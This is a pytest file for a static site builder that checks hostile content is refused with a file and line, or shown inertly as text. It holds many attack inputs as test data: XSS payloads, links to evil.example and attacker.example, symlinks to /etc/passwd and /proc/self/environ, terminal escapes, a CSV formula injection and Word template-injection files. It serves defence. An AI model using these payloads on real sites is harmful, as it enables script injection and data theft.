"""Issue 10: content is data. Each attack is either refused with
`path:line:col [rule]`, no traceback and the previous site untouched, or
built into pages that run no script, request nothing outside the site and
still show their heading (checked in Chromium over http and from file://).
"""
from __future__ import annotations

import re
import shutil
import zipfile
from pathlib import Path

import pytest

from conftest import REPO, build, make_project, read, real_pdf, real_png, run_cli, serve, write_files
from test_validate import GOOD, WEBINAR, built_project, good, tree_digest  # noqa: F401 (fixture)

A = "at-a-glance/case.md"
W = "webinars/case.md"
DOCS = "docs/privacy.md"  # an editor's page listed in not_in_nav
DEEP = "topics: " + "[" * 1000 + "housing" + "]" * 1000


def body(text: str) -> str:
    return GOOD + "\n" + text + "\n"


def download(path: str) -> str:
    return good(status=f"status: current\ndownloads:\n  - file: {path}\n    label: A file")


# (case, {file: text, bytes, or ("symlink", target)}, file, line, rule)
REFUSED = [
    # Script through the body, where a regex and Python-Markdown disagree on what is code.
    ("unclosed fence then script", {A: body("```\n<script>window.__pwned=1</script>")}, A, 19, "unsafe-html"),
    ("script between escaped backticks", {A: body("\\`<script>window.__pwned=1</script>\\`")}, A, 18, "unsafe-html"),
    ("handler after a slash", {A: body('<img/src="x"/onerror=window.__pwned=1>')}, A, 18, "unsafe-html"),
    ("meta refresh to another site", {A: body('<meta http-equiv="refresh" content="0;url=https://evil.example">')},
     A, 18, "unsafe-html"),
    ("iframe", {A: body('<iframe src="https://evil.example"></iframe>')}, A, 18, "unsafe-html"),
    ("svg with onload", {A: body("<svg onload=window.__pwned=1></svg>")}, A, 18, "unsafe-html"),
    ("style element", {A: body("<style>body{display:none}</style>")}, A, 18, "unsafe-html"),
    ("form posting elsewhere", {A: body('<form action="https://evil.example"><input name=x></form>')},
     A, 18, "unsafe-html"),
    ("attribute list with a handler", {A: body('A paragraph.\n{: onclick="window.__pwned=1" }')}, A, 19, "unsafe-html"),
    ("entity-encoded javascript link", {A: body("[x](JaVaScRiPt&#58;window.__pwned=1)")}, A, 18, "unsafe-html"),
    ("entity-encoded javascript in HTML", {A: body('<a href="&#106;avascript:window.__pwned=1">x</a>')}, A, 18,
     "unsafe-html"),
    ("data: link", {A: body('<a href="data:text/html,<script>alert(1)</script>">x</a>')}, A, 18, "unsafe-html"),
    ("image from another site", {A: body("![tracker](https://tracker.example/pixel.png)")}, A, 18, "unsafe-html"),
    # A browser reads a backslash as a slash: both are //tracker.example. The
    # first is also how a Windows shared drive is written, and is refused as one.
    ("image from another site behind backslashes", {A: body('<img src="\\\\tracker.example/pixel.png" alt="x">')},
     A, 18, "broken-link"),
    ("image from another site behind a slash and a backslash", {A: body('<img src="/\\tracker.example/p.png" alt="x">')},
     A, 18, "unsafe-html"),
    # MkDocs itself stopped with a traceback on these.
    ("image address that is not a URL", {A: body('<img src="//[x/p.png" alt="x">')}, A, 18, "broken-link"),
    ("link address that is not a URL", {A: body('See [this](http://[evil/x).')}, A, 18, "broken-link"),
    # Forty-first round: an address in code is printed in the briefing's PDF, where viewers link it.
    ("look-alike address in code", {A: body("See `https://www.g\u043ev.scot/` for more.")}, A, 18, "link-address"),
    # Fortieth round: a link inside another's text is text, showing gov.scot on a link to evil.example.
    ("link inside a link's text", {A: body("Read the [[www.gov.scot](https://www.gov.scot/)](https://evil.example/).")},
     A, 18, "misleading-link"),
    # Thirty-eighth round: the cleaner dropped this address (a space in its host), and said nothing.
    ("link whose host holds a space", {A: body("Read the [strategy](<https://www.gov .scot/p/>) first.")}, A, 18,
     "link-address"),
    ("id that clobbers the theme's config", {A: body('<p id="__config">{"base": "https://evil.example"}</p>')},
     A, 18, "unsafe-html"),
    ("id that clobbers the site's own section", {A: body('<p id="lib--related">Fake related list</p>')},
     A, 18, "unsafe-html"),
    ("class that dresses content as a banner", {A: body('<div class="lib-banner lib-banner--withdrawn">x</div>')},
     A, 18, "unsafe-html"),
    # Front-matter values that slipped past the checks.
    ("title with a tag and no closing >", {A: good(title="title: '<img/src=\"x\"/onerror=window.__pwned=1'")},
     A, 2, "unsafe-html"),
    ("title that opens a comment", {A: good(title="title: 'A <!-- b'")}, A, 2, "html-in-text"),
    ("title over two lines", {A: good(title='title: "Line one\\nLine two"')}, A, 2, "bad-value"),
    # Active and outside files.
    ("html download", {A: download("files/page.html"), "at-a-glance/files/page.html": "<script>1</script>"},
     A, 13, "file-path"),
    ("svg download", {A: download("files/logo.svg"), "at-a-glance/files/logo.svg": "<svg onload=alert(1)></svg>"},
     A, 13, "file-path"),
    ("download climbing out", {A: download("../../.git/config")}, A, 13, "file-path"),
    ("absolute download", {A: download("/etc/passwd")}, A, 13, "file-path"),
    ("download as an address", {A: download("https://example.org/x.pdf")}, A, 13, "link-scheme"),
    ("symlink to the environment", {A: download("files/env.txt"),
                                    "at-a-glance/files/env.txt": ("symlink", "/proc/self/environ")},
     "at-a-glance/files/env.txt", 1, "symlink"),
    ("symlink to git config, unreferenced", {"at-a-glance/files/config.txt": ("symlink", "../../.git/config")},
     "at-a-glance/files/config.txt", 1, "symlink"),
    ("symlinked resource", {"at-a-glance/passwd.md": ("symlink", "/etc/passwd")}, "at-a-glance/passwd.md", 1,
     "symlink"),
    ("symlinked folder", {"deeper-dives/etc": ("symlink", "/etc")}, "deeper-dives/etc", 1, "symlink"),
    # Inputs that crashed the build with a traceback.
    ("front matter nested 1,000 deep", {A: good(topics=DEEP)}, A, 6, "too-deep"),
    ("NUL byte in front matter", {A: good(owner="owner: Test\x00team")}, A, 10, "control-character"),
    ("ESC byte in front matter", {A: good(owner="owner: Test\x1bteam")}, A, 10, "control-character"),
    ("right-to-left override in a title", {A: good(title='title: "Planning \u202etxt.exe guide"')}, A, 2,
     "control-character"),
    ("terminal escapes in the body", {A: body("Body \x1b]0;pwned\x07\x1b[31m text.")}, A, 18, "control-character"),
    ("webinar in the year 9999", {W: WEBINAR.format(url="https://e.example/r").replace("2026-09-01T13:00", "9999-12-31T23:00")},
     W, 9, "bad-date"),
    ("webinar at a time the clocks skip",
     {W: WEBINAR.format(url="https://e.example/r").replace("2026-09-01T13:00", "2027-03-28T01:30")}, W, 9, "clock-change"),
    ("webinar at a time that happens twice",
     {W: WEBINAR.format(url="https://e.example/r").replace("2026-09-01T13:00", "2027-10-31T01:30")}, W, 9, "clock-change"),
    ("reviews in the year 9999", {A: good(last_reviewed="last_reviewed: 9998-01-01",
                                          next_review_due="next_review_due: 9999-01-01")}, A, 8, "bad-date"),
    ("upcoming webinar whose title holds a newline",
     {W: WEBINAR.format(url="https://e.example/r").replace("title: A webinar", 'title: "A webinar\\nBEGIN:VEVENT"')},
     W, 2, "bad-value"),
    # Fortieth round: a name in bytes no character stands for (git carries one) stopped every build.
    ("file name that is not UTF-8", {"at-a-glance/files/bad\udcff\udcfename.txt": "x"},
     "at-a-glance/files/bad\\xff\\xfename.txt", 1, "file-name"),
    # Inputs that stalled it.
    ("150 KB line of <", {A: body("<" * 150_000)}, A, 18, "too-complex"),
    ("40 KB of [", {A: body("[" * 40_000)}, A, 18, "too-complex"),
    ("[ in short lines, one paragraph", {A: body(("[" * 100 + "\n") * 400)}, A, 18, "too-complex"),
    ("[a]( over many paragraphs", {A: body(("[a](" * 400 + "\n\n") * 100)}, A, 13, "too-complex"),
    ("tags never closed", {A: body(("<a " * 200 + "\n\n") * 100)}, A, 18, "too-complex"),
    ("lists nested 500 deep", {A: body("".join("  " * i + "- a\n" for i in range(500)))}, A, 43, "too-complex"),
    ("1 MB body", {A: body(("<a [" * 20 + "\n") * 12_500)}, A, 1, "too-large"),
    # Editors' pages and the vocabulary.
    ("editor's page with invalid front matter", {DOCS: "---\ntitle: Extra\ndescription: A: b\n---\n\nText.\n"},
     DOCS, 3, "yaml-syntax"),
    ("editor's page running macros", {DOCS: "---\ntitle: Extra\nrender_macros: true\n---\n\n{{ 7 * 7 }}\n"},
     DOCS, 3, "render-macros"),
    # The fourth attacker: JSON-LD is printed as it is into the page's head.
    ("editor's page setting the page's JSON-LD", {DOCS: "---\ntitle: Extra\njson_ld: '{}</script><svg><a href=\"https://evil.example/\">"
                                                  "<rect width=\"100\" height=\"100\"/></a></svg>'\n---\n\nText.\n"},
     DOCS, 3, "unknown-field"),
    ("editor's page naming its own feed", {DOCS: "---\ntitle: Extra\nfeed: https://evil.example/feed.xml\n---\n\nText.\n"},
     DOCS, 3, "unknown-field"),
    ("editor's page with a script", {DOCS: "---\ntitle: Extra\n---\n\n<script>window.__pwned=1</script>\n"},
     DOCS, 5, "unsafe-html"),
    ("html file in docs", {"docs/about/page.html": "<script>window.__pwned=1</script>"}, "docs/about/page.html", 1,
     "active-file"),
    ("svg file in docs", {"docs/images/x.svg": "<svg onload=alert(1)></svg>"}, "docs/images/x.svg", 1,
     "active-file"),
    ("vocabulary name with a tag", {"vocabulary/topics.yml": "housing:\n  name: <img src=x onerror=alert(1)>\n"
                                    "  description: Homes.\n"}, "vocabulary/topics.yml", 2, "vocabulary"),
    # Reported where the `[` opened (issue 21), not on the line after.
    ("vocabulary that is not YAML", {"vocabulary/topics.yml": "housing:\n  name: [Housing\n"},
     "vocabulary/topics.yml", 2, "yaml-syntax"),
]


@pytest.mark.parametrize("case, files, path, line, rule", REFUSED, ids=[c[0] for c in REFUSED])
def test_attack_is_refused_with_its_place_and_the_site_untouched(tmp_path, built_project, case, files, path, line, rule):
    project = tmp_path / "p"
    shutil.copytree(built_project, project, symlinks=True)
    before = tree_digest(project / "site")
    write_files(project, files)
    result = build(project)
    output = result.stdout + result.stderr
    assert result.returncode != 0, output
    assert "Traceback" not in output
    reported = [l for l in result.stderr.splitlines() if f"[{rule}]" in l and l.startswith(f"{path}:{line}:")]
    assert reported, f"expected {path}:{line}:* [{rule}] in:\n{result.stderr}"
    assert "hint:" in result.stderr
    # A symlink's target is never read into a message.
    assert "root:x:0" not in output and "PATH=" not in output
    # Nothing in a file can drive the terminal that shows its problems.
    assert "\x1b" not in output and "\x07" not in output and "\u202e" not in output
    assert tree_digest(project / "site") == before


def test_a_one_megabyte_hostile_body_is_refused_before_markdown_sees_it(tmp_path):
    """Not a timing test: the subprocess limit only catches a stall (these
    bodies took Python-Markdown minutes to hours before)."""
    for n, text in enumerate(["[" * 1_000_000, "<a " * 330_000, ("[" * 900 + "\n\n") * 1_000]):
        project = make_project(tmp_path / f"p{n}", content={A: GOOD + "\n" + text[:500_000]})
        result = run_cli(project, "validate")
        assert result.returncode == 1 and "[too-complex]" in result.stderr or "[too-large]" in result.stderr


def test_unreadable_file_is_a_problem_not_a_traceback(tmp_path):
    from resource_library.load import read_resource
    folder = tmp_path / "at-a-glance" / "folder.md"
    folder.mkdir(parents=True)  # read_bytes on a folder raises, as an unreadable file would
    parsed = read_resource(tmp_path, folder)
    assert [p.rule for p in parsed.problems] == ["unreadable"]


def test_only_files_a_resource_asks_for_are_published(tmp_path):
    """Whatever is committed in a content folder, site/ and the offline zip
    hold only the files resources ask for, of reader formats."""
    content = {
        A: good(status='status: current\ndownloads:\n  - file: "files/plan checklist #1.pdf"\n    label: Checklist')
        + "\n![A chart](files/chart.png)\n"
        # Thirty-ninth round: an escaped link is text. Thirty-eighth: a link parked in a comment, or a
        # definition no link uses, shows nothing.
        + "\nShown as text: \\[the sheet](files/escaped.csv), and !\\[a chart](files/escaped.png).\n"
        # Thirty-ninth round: Markdown inside an HTML block is text too.
        + "\n<div>[v](files/in-div.csv)</div>\n\n<table><tr><td>[i](files/in-cell.csv)</td></tr></table>\n"
        # Fortieth round: a code span over two lines, and a link inside another's text, are text; a link whose
        # title is on the next line, and an address in angle brackets, are links.
        + "\nType `the\n[x](files/in-code.csv)` here.\n\nSee [[the list](files/nested.csv)](https://www.gov.scot/).\n"
        + "\nText [the sheet](files/titled.csv\n\"Figures\") and [the other](<files/angled.csv>).\n"
        + "\nFigures to follow. <!-- when approved: [figures](files/draft-figures.csv) -->\n\n<!--\n"
          "![Draft chart](files/draft.png)\n-->\n\n[unused]: files/secret.csv\n"
        # Forty-third round: a comment that a browser and Markdown end at `--!>` hides nothing after it.
        + "\n<!-- ended early --!>\n[after](files/after-bang.csv)\n-->\n",
        "at-a-glance/files/after-bang.csv": "a,b\n1,2\n",
        "at-a-glance/files/draft-figures.csv": "a,b\n1,2\n",
        "at-a-glance/files/escaped.csv": "a,b\n1,2\n",
        "at-a-glance/files/escaped.png": real_png(),
        "at-a-glance/files/in-div.csv": "a,b\n1,2\n",
        **{f"at-a-glance/files/{name}.csv": "a,b\n1,2\n" for name in ("in-code", "nested", "titled", "angled")},
        "at-a-glance/files/in-cell.csv": "a,b\n1,2\n",
        "at-a-glance/files/draft.png": real_png(),
        "at-a-glance/files/secret.csv": "a,b\n1,2\n",
        "at-a-glance/files/plan checklist #1.pdf": real_pdf(),
        "at-a-glance/files/chart.png": real_png(),
        "at-a-glance/files/unused.pdf": "%PDF-1.4 unused",
        "at-a-glance/files/page.html": "<script>window.__pwned=1</script>",
        "at-a-glance/files/logo.svg": "<svg onload=alert(1)></svg>",
        "at-a-glance/files/app.js": "window.__pwned=1",
        "webinars/notes.html": "<script>window.__pwned=1</script>",
    }
    project = make_project(tmp_path / "p", content=content)
    result = build(project)
    assert result.returncode == 0, result.stderr
    site = project / "site"
    published = sorted(p.relative_to(site).as_posix() for folder in ("at-a-glance", "deeper-dives", "webinars")
                       for p in (site / folder).rglob("*")
                       if p.is_file() and p.name != "index.html" and p.suffix != ".ics")  # .ics: webinar calendars
    # The briefing's own PDF (issue 22) is made by the build, not taken from the folder.
    assert published == ["at-a-glance/case/case.pdf", "at-a-glance/files/after-bang.csv",
                         "at-a-glance/files/angled.csv",
                         "at-a-glance/files/chart.png", "at-a-glance/files/plan checklist #1.pdf",
                         "at-a-glance/files/titled.csv"]
    html = read(site, "at-a-glance/case/")
    # As a browser reads the page: a live link to each file published, and to none other.
    from selectolax.lexbor import LexborHTMLParser
    linked = {a.attributes.get("href") for a in LexborHTMLParser(html).css("article a[href^='../files/']")}
    assert "../files/after-bang.csv" in linked
    assert not any("secret" in href or "draft" in href for href in linked)
    assert 'href="../files/plan%20checklist%20%231.pdf"' in html
    # The offline zip, built by the same pipeline, holds the same, and its
    # pages have the same policy: no inline script, offline either.
    bundle = run_cli(project, "bundle", "--dist", "dist")
    assert bundle.returncode == 0, bundle.stderr
    (zip_path,) = (project / "dist").glob("*.zip")
    archive = zipfile.ZipFile(zip_path)
    names = archive.namelist()
    content_names = sorted(n.split("/", 1)[1] for n in names
                           if n.split("/")[1] in ("at-a-glance", "deeper-dives", "webinars")
                           and not n.endswith((".html", ".ics")))
    assert content_names == ["at-a-glance/case/case.pdf", "at-a-glance/files/after-bang.csv",
                             "at-a-glance/files/angled.csv",
                             "at-a-glance/files/chart.png", "at-a-glance/files/plan checklist #1.pdf",
                             "at-a-glance/files/titled.csv"]
    for name in names:
        if name.endswith(".html"):
            policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', archive.read(name).decode())
            assert policy and re.search(r"script-src ([^;]+)", policy.group(1)).group(1) == "'self'", name


def test_report_csv_neutralises_formulas(tmp_path):
    project = make_project(tmp_path / "p", content={
        A: good(owner='owner: "=HYPERLINK(\\"https://evil.example\\",\\"click\\")"',
                next_review_due="next_review_due: 2026-06-20")})
    result = run_cli(project, "report", "--csv", "report.csv")
    assert result.returncode == 0, result.stderr
    text = (project / "report.csv").read_text()
    assert "'=HYPERLINK" in text
    assert not re.search(r"(^|,)[=+@-]", text, re.M)


# Content that is allowed, though it looks hostile: it must be shown as text.
SHOWN_AS_TEXT = {
    A: good(title="title: 'Fish & chips \"quoted\" < /script> it''s fine'",
            summary="summary: 'A summary with < img src=x onerror=window.__pwned=1> and &lt;script&gt; in it.'")
    + "\n<!-- An editor's note, never shown. -->\n\n"
    "`<script>window.__pwned=1</script>`\n\n"
    "```html\n<img src=x onerror=\"window.__pwned=1\">\n```\n\n"
    "&lt;script&gt;window.__pwned=1&lt;/script&gt;\n\n"
    # Indented code: four spaces after a blank line (the validator once took
    # this for real HTML and refused it).
    "Indented code:\n\n    <img src=x onerror=\"window.__pwned=2\">\n    [not a link](../nowhere.md)\n\n"
    "[A link with a query](https://example.org/?q=%3Cscript%3E)\n",
}


@pytest.fixture(scope="module")
def shown_as_text(tmp_path_factory) -> Path:
    project = make_project(tmp_path_factory.mktemp("hostile"), content=SHOWN_AS_TEXT)
    result = build(project)
    assert result.returncode == 0, result.stderr
    return project / "site"


def test_no_policy_allows_inline_or_content_scripts(shown_as_text):
    for page in shown_as_text.rglob("*.html"):
        html = page.read_text(encoding="utf-8")
        policies = re.findall(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', html)
        assert len(policies) == 1, page
        script_src = re.search(r"script-src ([^;]+)", policies[0]).group(1)
        assert script_src == "'self'", (page, script_src)
    assert "Content-Security-Policy" in (shown_as_text / "404.html").read_text()



def test_report_a_problem_names_the_title_as_the_reader_reads_it(shown_as_text):
    """The mail's subject and body carried `Fish &amp; chips ... it&#39;s`:
    the title was escaped for the page, then put into an address."""
    from urllib.parse import parse_qs, urlsplit
    html = (shown_as_text / "at-a-glance" / "case" / "index.html").read_text(encoding="utf-8")
    link = re.search(r'<a href="(mailto:[^"]+)">Report a problem with this page</a>', html).group(1)
    query = parse_qs(urlsplit(link.replace("&amp;", "&")).query)
    title = "Fish & chips \"quoted\" < /script> it's fine"
    assert query["subject"] == [f"Problem with a page: {title}"]
    assert query["body"][0].startswith(f"Page: {title}\n")

@pytest.mark.parametrize("where", ["http", "file"])
def test_hostile_looking_content_runs_nothing_and_requests_nothing(browser, shown_as_text, where):
    url = (serve(shown_as_text) + "at-a-glance/case/") if where == "http" else \
        (shown_as_text / "at-a-glance" / "case" / "index.html").as_uri()
    context = browser.new_context()
    outside, dialogs = [], []

    def guard(route):
        request = route.request.url
        inside = request.startswith(url.split("at-a-glance")[0]) or request.startswith("data:")
        if not inside:
            outside.append(request)
            route.abort()
        else:
            route.continue_()

    context.route("**/*", guard)
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.goto(url)
    page.wait_for_load_state("load")
    assert page.evaluate("window.__pwned") is None
    assert dialogs == [] and outside == []
    assert page.inner_text("h1") == "Fish & chips \"quoted\" < /script> it's fine"
    assert "<script>window.__pwned=1</script>" in page.inner_text("article")
    assert page.locator("article pre", has_text='<img src=x onerror="window.__pwned=2">').count() == 1
    assert page.title().startswith("Fish & chips")
    context.close()


def test_a_symlinked_download_is_reported_once_at_the_link(tmp_path):
    """Not also as a file "which does not exist" in every resource that asks
    for it: the contributor would look for a missing file that is there."""
    project = make_project(tmp_path / "p", content={A: download("files/env.txt") + "\n[The file](files/env.txt)\n"})
    write_files(project, {"at-a-glance/files/env.txt": ("symlink", "/proc/self/environ")})
    result = run_cli(project, "validate")
    assert result.returncode == 1
    assert "at-a-glance/files/env.txt:1:1 [symlink]" in result.stderr
    assert "[missing-file]" not in result.stderr and "does not exist" not in result.stderr, result.stderr


def test_a_tooltip_an_attribute_list_gives_a_link_is_the_links_own(tmp_path):
    """Thirty-ninth round: `[x](https://www.gov.scot/){: title="Opens www.gov.scot"}` was refused as a tooltip
    on something other than a link; it is the link's own, held to the link's rule as the build holds it."""
    lines = ['See [the guidance](https://www.gov.scot/){: title="Opens www.gov.scot"} first.',
             'See [the guidance](https://evil.example/){: title="Opens www.gov.scot"} first.',
             'See *this*{: title="Goes to www.gov.scot"} first.']
    text = body("\n\n".join(lines))
    project = make_project(tmp_path / "p", content={A: text})
    result = run_cli(project, "validate")
    said = [line for line in result.stderr.splitlines() if line.startswith(f"{A}:")]
    first = text.split("\n").index(lines[0]) + 1
    assert [(int(line.split(":")[1]) - first, line.split(" ")[1]) for line in said] == [
        (2, "[misleading-link]"), (4, "[misleading-link]")], result.stderr
    assert "tooltip shows `gov.scot`, but it goes to `https://evil.example/`" in said[0], said
    assert "only a link's own tooltip may show an address" in said[1], said
    build_result = build(project)
    assert build_result.returncode == 1 and f"{A}:{first + 2}:" in build_result.stderr, build_result.stderr
    write_files(project, {A: body(lines[0])})
    assert build(project).returncode == 0


def test_code_blocks_of_both_kinds_hide_what_they_show_and_nothing_after_them(tmp_path):
    """Indented code, then fenced code holding HTML, then real content: the
    code is never an error, and what follows is still checked (found by the
    fresh-clone tester: a blank line after indented code hid the fence)."""
    text = body("    <b>indented code</b>\n\n```html\n<div onclick=\"x()\">\n```\n\n[A broken link](nope.md)\n")
    project = make_project(tmp_path / "p", content={A: text})
    result = run_cli(project, "validate")
    line = text.split("\n").index("[A broken link](nope.md)") + 1
    assert f"{A}:{line}:" in result.stderr and "[broken-link]" in result.stderr, result.stderr
    assert "unsafe-html" not in result.stderr and "onclick" not in result.stderr.split("[broken-link]")[0]
    assert result.stderr.count(f"{A}:") == 1, result.stderr


# Found by the fresh-clone attackers: validate passed these, and the build
# then stopped with a bare engine warning (no file, line or fix) or with a
# problem validate had not given. Now both give the same path:line:col.
SPACED = {
    "a javascript: link with a tab inside": ("at-a-glance/case.md", "One [x](java\tscript:alert(1)) link.\n",
                                             "[unsafe-html] the link `java\\tscript:alert(1)` is a `javascript:` address"),
    "a link target with a space, in angle brackets": ("at-a-glance/case.md", "Two [x](<a b:c>) link.\n",
                                                      "[broken-link] `a b:c` points to"),
    "an ms-msdt: link with a space": ("at-a-glance/case.md", "Three [x](<ms-msdt:/id PCWDiagnostic>) link.\n",
                                      "[unsafe-html] the link `ms-msdt:/id PCWDiagnostic` is a `ms-msdt:` address"),
    # Forty-second round: validate did not take this for a link; the build refused it.
    "a link address holding a bracket": ("at-a-glance/case.md", "One [x](https://evil.com[1]) link.\n",
                                         "[broken-link] `https://evil.com[1]` is not a link address"),
    "an image by reference from another site": ("at-a-glance/case.md", "A ![chart][c].\n\n[c]: https://evil.example/x.png\n",
                                                "[unsafe-html] the image `https://evil.example/x.png` is loaded from another website"),
}


@pytest.mark.parametrize("case", SPACED)
def test_validate_and_build_give_the_same_line_for_links_the_engine_would_warn_about(tmp_path, case):
    from test_validate import GOOD
    path, body, expected = SPACED[case]
    project = make_project(tmp_path / "p", content={path: GOOD + "\n" + body})
    line = GOOD.count("\n") + 2
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode != 0 and "Traceback" not in out, (command, out[-2000:])
        where = line + body.split("\n").index(next(l for l in body.split("\n") if l.startswith(("[c]:", "One", "Two",
                                                                                                   "Three"))))
        assert any(shown.startswith(f"{path}:{where}:") and expected in shown for shown in out.splitlines()), \
            (command, where, out[-2000:])
        assert "unrecognized relative link" not in out, (command, out[-2000:])
    assert not (project / "site").exists()


def test_an_editors_page_outside_the_navigation_and_a_topic_named_index_are_refused_by_validate(tmp_path):
    project = make_project(tmp_path / "p", "basic", content={"docs/orphan.md": "# Orphan\n\nIn no menu.\n"})
    topics = project / "vocabulary" / "topics.yml"
    topics.write_text(topics.read_text() + "\nindex:\n  name: Index topic\n  description: A topic named index.\n")
    line = topics.read_text().split("\n").index("index:") + 1
    types = project / "vocabulary" / "types.yml"
    original_types = types.read_text()
    types.write_text(original_types + "\npodcasts:\n  name: Podcast\n  plural: Podcasts\n  description: Audio.\n")
    type_line = types.read_text().split("\n").index("podcasts:") + 1
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode != 0 and "Traceback" not in out, (command, out[-2000:])
        assert "docs/orphan.md:1:1 [not-in-nav] docs/orphan.md is in neither the navigation nor `not_in_nav`" in out
        assert f"vocabulary/topics.yml:{line}:1 [vocabulary] `index` is the address of the page" in out, out[-2000:]
        # A type added to types.yml alone was half applied, silently.
        assert f"vocabulary/types.yml:{type_line}:1 [vocabulary] `podcasts` is not a type the site builds" in out
    types.write_text(original_types)
    # Listed in not_in_nav, the page builds.
    (project / "mkdocs.yml").write_text((project / "mkdocs.yml").read_text().replace(
        "not_in_nav: |\n", "not_in_nav: |\n  /orphan.md\n"))
    topics.write_text(topics.read_text().replace("\nindex:\n  name: Index topic\n  description: A topic named index.\n", ""))
    result = build(project)
    assert result.returncode == 0, result.stderr[-2000:]


def _office(parts: dict[str, str]) -> bytes:
    import io
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        for name, text in parts.items():
            archive.writestr(name, text)
    return out.getvalue()


# Every part is read as XML, with its namespaces (tests/test_files.py has the attackers' variants).
WORD = {"[Content_Types].xml": "<Types/>",
        "word/document.xml": '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"/>',
        "word/_rels/document.xml.rels": '<Relationships><Relationship Id="r1" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/hyperlink" Target="https://www.gov.scot/" TargetMode="External"/>'
        "</Relationships>"}

# Parts are read as XML, with their namespaces (tests/test_files.py has the attacker's variants).
ODF_CONTENT = ('<office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" xmlns:xlink="http://www.w3.org/1999/xlink">'
               "{}</office:document-content>")


@pytest.mark.parametrize("name, content, says", [
    ("page.docx", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "is not a Word file"),
    ("notes.txt", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>", "is a web page"),
    ("template.docx", _office({**WORD, "word/_rels/settings.xml.rels":
                               '<Relationships><Relationship Id="r9" Type="http://schemas.openxmlformats.org/'
                               'officeDocument/2006/relationships/attachedTemplate" '
                               'Target="file://attacker.example/share/t.dotm" TargetMode="External"/></Relationships>'}),
     "loads `file://attacker.example/share/t.dotm` from outside the document"),
    ("share.docx", _office({**WORD, "word/_rels/document.xml.rels": WORD["word/_rels/document.xml.rels"].replace(
        "https://www.gov.scot/", "file://evil.example/share/x")}), "a document may link only to web"),
    ("macros.docx", _office({**WORD, "word/vbaProject.bin": "x"}), "holds macros"),
    ("share.odt", _office({"mimetype": "application/vnd.oasis.opendocument.text",
                           "content.xml": ODF_CONTENT.format('<text:a xlink:href="file://evil.example/s/x"/>')}),
     "a document may link only to web"),
    # Captions as Teams and Zoom save a webinar's transcript (forty-second round: refused as a type).
    ("captions.vtt", b"1\n00:00:01.000 --> 00:00:04.000\nHello\n", "is not WebVTT captions"),
    ("captions.vtt", b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>", "is a web page"),
    ("captions.srt", b"WEBVTT\n\n00:01.000 --> 00:04.000\nHello\n", "is not SubRip captions"),
    ("captions.srt", b"<html><script>alert(1)</script>", "is a web page"),
])
def test_office_documents_and_text_files_are_what_their_names_say(tmp_path, name, content, says):
    """Found by the third fresh-clone attacker: only PDFs and images were
    read, so an HTML page named .docx or .txt, and a Word file that fetches
    a template from a Windows share when opened, were published."""
    project = make_project(tmp_path / "p", content={
        A: GOOD.replace("status: current", f"status: current\ndownloads:\n  - file: files/{name}\n    label: File"),
        f"at-a-glance/files/{name}": content})
    line = GOOD.split("\n").index("status: current") + 3
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode == 1 and "Traceback" not in out, (command, out[-2000:])
        assert any(l.startswith(f"{A}:{line}:") and "[unsafe-file]" in l and says in l for l in out.splitlines()), \
            (command, out[-2000:])
    # A real document with a link to the web is fine.
    (project / "at-a-glance" / "files" / name).write_bytes(
        _office(WORD) if name.endswith(".docx") else
        _office({"mimetype": "x", "content.xml": ODF_CONTENT.format('<text:a xlink:href="https://www.gov.scot/"/>')})
        if name.endswith(".odt")
        else HONEST_TEXT.get(name.rsplit(".", 1)[1], b"Plain notes.\n"))
    assert build(project).returncode == 0
    assert (project / "site" / "at-a-glance" / "files" / name).read_bytes() == (
        project / "at-a-glance" / "files" / name).read_bytes()


# Caption files as Microsoft Teams and Zoom write them (a byte-order mark,
# voice tags, CRLF lines), and as SubRip.
HONEST_TEXT = {
    "vtt": "\ufeffWEBVTT\r\n\r\n0b5c7e1a-1\r\n00:00:01.240 --> 00:00:04.880\r\n"
           "<v Ann Smith>Welcome to the webinar on strategic plans.</v>\r\n".encode(),
    "srt": b"1\n00:00:01,240 --> 00:00:04,880\nWelcome to the webinar.\n\n2\n00:00:05,000 --> 00:00:07,500\n"
           b"<i>Slides are on the page.</i>\n",
}


@pytest.mark.parametrize("body, says", [
    ('Para with style.\n{: style="color:red" }\n', 'gives the `style` attribute, which pages cannot use'),
    ("[Click](https://example.org){: .md-button .md-button--primary }\n", "gives the class `md-button`"),
    ('Secret text.\n{: hidden="" }\n', "gives the `hidden` attribute"),
    ("## Heading {: #__config }\n", "gives the id `__config`, which the site keeps for its own use"),
])
def test_validate_refuses_what_an_attribute_list_gives_that_the_allow_list_removes(tmp_path, body, says):
    """Found by the third fresh-clone attacker: validate passed these and the
    build refused them, for `style` at the word in the prose. Both now say it
    at the braces."""
    project = make_project(tmp_path / "p", content={A: GOOD + "\n" + body})
    line = GOOD.count("\n") + 1 + body.split("\n").index(next(l for l in body.split("\n") if "{" in l)) + 1
    col = next(l for l in body.split("\n") if "{" in l).index("{") + 1
    for command in (("validate",), ("build", "--site-dir", "site")):
        result = run_cli(project, *command)
        out = result.stdout + result.stderr
        assert result.returncode == 1, (command, out[-1500:])
        assert any(l.startswith(f"{A}:{line}:{col} [unsafe-html] the attribute list") and says in l
                   for l in out.splitlines()), (command, out[-1500:])


def test_braces_in_prose_and_a_headings_own_id_are_not_attribute_lists(tmp_path):
    project = make_project(tmp_path / "p", content={A: GOOD + "\n## Heading {#my-section}\n\nA set {1, 2} and {word} in a sentence.\n"})
    assert run_cli(project, "validate").returncode == 0
    assert build(project).returncode == 0


def test_a_vocabulary_name_is_shown_as_written_on_the_pages_that_use_macros(tmp_path, built_project):
